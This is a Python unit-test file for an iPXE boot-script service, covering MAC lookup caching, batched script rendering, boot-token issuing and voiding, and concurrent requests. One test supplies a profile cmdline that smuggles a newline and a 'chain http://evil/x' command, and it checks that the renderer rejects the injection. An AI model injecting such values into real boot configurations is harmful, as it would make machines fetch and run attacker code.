"""The script endpoint's fast path: look-ups through TargetFinder (new and ended bindings seen at
once, profile edits within max_age), batches of scripts in one read and one write transaction,
and tokens that only a live binding generation gets."""

from __future__ import annotations

import asyncio
import re
from pathlib import Path

from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import select

from appliance.boot.http import setup
from appliance.boot.ipxe import Ask, ScriptRenderer, TargetFinder, serve_scripts
from appliance.boot.tokens import BOOT, issue_token, spend_boot_token
from appliance.store.tables import BindingRow, BootTokenRow, ProfileRow
from tests.unit.boot.conftest import IMAGE, Inventory, profile_doc

BASE = "http://10.77.0.1:8080"


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


def _token(text: str) -> str:
    m = re.search(r"anvil\.token=(\S+)", text)
    assert m, text
    return m.group(1)


def test_finder_sees_a_new_binding_at_once_and_a_profile_edit_after_max_age(inventory: Inventory) -> None:
    clock = Clock()
    finder = TargetFinder(max_age=1.0, clock=clock)
    store = inventory.store
    with store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:09:01") is None
    inventory.add_blade("blade-9", ("52:54:00:00:09:01",))
    inventory.add_profile(profile_doc("img-09", IMAGE, macs=("02:a0:00:00:09:01",)))
    inventory.bind("img-09", "blade-9")
    with store.engine.connect() as conn:          # a new binding moves the newest id: no waiting
        found = finder.find(conn, "02:a0:00:00:09:01")
    assert found is not None and found.blade == "blade-9" and found.profile is not None
    with store.write() as s:                      # the bound profile's MAC is edited in place
        row = s.scalars(select(ProfileRow).where(ProfileRow.name == "img-09")).one()
        doc = profile_doc("img-09", IMAGE, macs=("02:a0:00:00:09:99",))
        row.document = doc
    with store.engine.connect() as conn:
        clock.now += 0.5
        assert finder.find(conn, "02:a0:00:00:09:99") is None, "within max_age the old map may stand"
        clock.now += 1.0
        assert finder.find(conn, "02:a0:00:00:09:99") is not None
        assert finder.find(conn, "02:a0:00:00:09:01") is None


def test_a_stale_hit_is_read_back_and_refused(inventory: Inventory) -> None:
    finder = TargetFinder(max_age=3600)
    with inventory.store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:00:01") is not None
    with inventory.store.write() as s:
        row = s.get(ProfileRow, inventory.profiles["web-01"])
        assert row is not None
        row.document = profile_doc("web-01", IMAGE, macs=("02:a0:00:00:00:77",))
    with inventory.store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:00:01") is None
        assert finder.find(conn, "02:a0:00:00:00:77") is not None, "the refused hit rebuilt the map"


def test_finder_drops_an_ended_binding_at_once(inventory: Inventory) -> None:
    finder = TargetFinder(max_age=3600)
    with inventory.store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:00:01") is not None
    with inventory.store.write() as s:
        s.get(BindingRow, inventory.bindings["web-01"]).state = "released"  # type: ignore[union-attr]
    with inventory.store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:00:01") is None
        by_nic = finder.find(conn, "52:54:00:00:01:01")
    assert by_nic is not None and by_nic.binding is None


def test_a_batch_gives_each_request_its_own_token_and_only_the_last_is_live(inventory: Inventory) -> None:
    renderer = ScriptRenderer(BASE)
    asks = [Ask(renderer, "52:54:00:00:01:01"), Ask(renderer, "52:54:00:99:99:99"),
            Ask(renderer, "02:a0:00:00:00:01"), Ask(renderer, None, "4c4c4544-0042-3510-8052-b4c04f384d32")]
    scripts = serve_scripts(inventory.store, TargetFinder(), asks)
    texts = [s.text for s in scripts if not isinstance(s, ValueError)]
    assert len(texts) == 4 and "/boot/discover##params" in texts[1]
    tokens = [_token(t) for t in (texts[0], texts[2], texts[3])]
    assert len(set(tokens)) == 3
    with inventory.store.read() as s:
        rows = s.scalars(select(BootTokenRow).order_by(BootTokenRow.id)).all()
    assert [(r.kind, r.voided_at is None) for r in rows] == [("boot", False), ("boot", False), ("boot", True)]
    with inventory.store.write() as s:
        assert spend_boot_token(s, tokens[0]) is None
        assert spend_boot_token(s, tokens[2]) is not None


def test_a_profile_that_cannot_boot_spoils_only_its_own_script(inventory: Inventory) -> None:
    inventory.add_blade("blade-8", ("52:54:00:00:08:01",))
    inventory.add_profile(profile_doc("evil-01", {"type": "image", "kernel": "k", "initrd": "i",
                                                  "cmdline": "quiet\nchain http://evil/x"}))
    inventory.bind("evil-01", "blade-8")
    renderer = ScriptRenderer(BASE)
    bad, good = serve_scripts(inventory.store, TargetFinder(),
                              [Ask(renderer, "52:54:00:00:08:01"), Ask(renderer, "52:54:00:00:01:01")])
    assert isinstance(bad, ValueError) and "control character" in str(bad) and "anvil.token" not in str(bad)
    assert not isinstance(good, ValueError) and "anvil.profile=acme/web-01" in good.text


def test_no_token_for_a_generation_that_is_not_live(inventory: Inventory) -> None:
    with inventory.store.write() as s:
        conn = s.connection()
        assert issue_token(conn, inventory.bindings["web-01"], 2, BOOT) is None    # wrong generation
        assert issue_token(conn, inventory.bindings["web-01"], 1, BOOT) is not None
        s.get(BindingRow, inventory.bindings["web-01"]).state = "released"  # type: ignore[union-attr]
        s.flush()
        assert issue_token(conn, inventory.bindings["web-01"], 1, BOOT) is None


def test_voiding_looks_only_at_the_newest_tokens_yet_keeps_one_live(inventory: Inventory) -> None:
    binding = inventory.bindings["web-01"]
    with inventory.store.write() as s:
        tokens = [issue_token(s.connection(), binding, 1, BOOT) for _ in range(40)]
    with inventory.store.read() as s:
        live = s.scalars(select(BootTokenRow).where(BootTokenRow.voided_at.is_(None))).all()
    assert len(live) == 1
    with inventory.store.write() as s:
        assert spend_boot_token(s, tokens[-1] or "") is not None


async def test_concurrent_requests_share_transactions_and_each_get_a_script(inventory: Inventory,
                                                                           tmp_path: Path) -> None:
    app = web.Application()
    setup(app, store=inventory.store, images_dir=tmp_path, base_url=BASE)
    async with TestClient(TestServer(app)) as c:
        async def get(mac: str) -> str:
            r = await c.get("/boot/ipxe", params={"mac": mac})
            assert r.status == 200
            return await r.text()

        macs = ["52:54:00:00:01:01", "02:a0:00:00:04:01", "52:54:00:00:02:01", "52:54:00:99:99:99"] * 10
        texts = await asyncio.gather(*(get(m) for m in macs))
    for mac, text in zip(macs, texts, strict=True):
        if mac == "52:54:00:00:01:01":
            assert "anvil.profile=acme/web-01" in text
        elif mac == "02:a0:00:00:04:01":
            assert "anvil.profile=acme/hybrid-01" in text and "sanhook" in text
        elif mac == "52:54:00:00:02:01":
            assert "sanboot iscsi:10.30.0.5::3260:1:iqn.2026-11.io.anvil.san:db-01" in text
        else:
            assert "/boot/discover##params" in text
    with inventory.store.read() as s:
        rows = s.scalars(select(BootTokenRow)).all()
    assert len(rows) == 20 and len({r.token_hash for r in rows}) == 20
    assert sorted(r.binding_id for r in rows if r.voided_at is None) == sorted(
        [inventory.bindings["web-01"], inventory.bindings["hybrid-01"]])
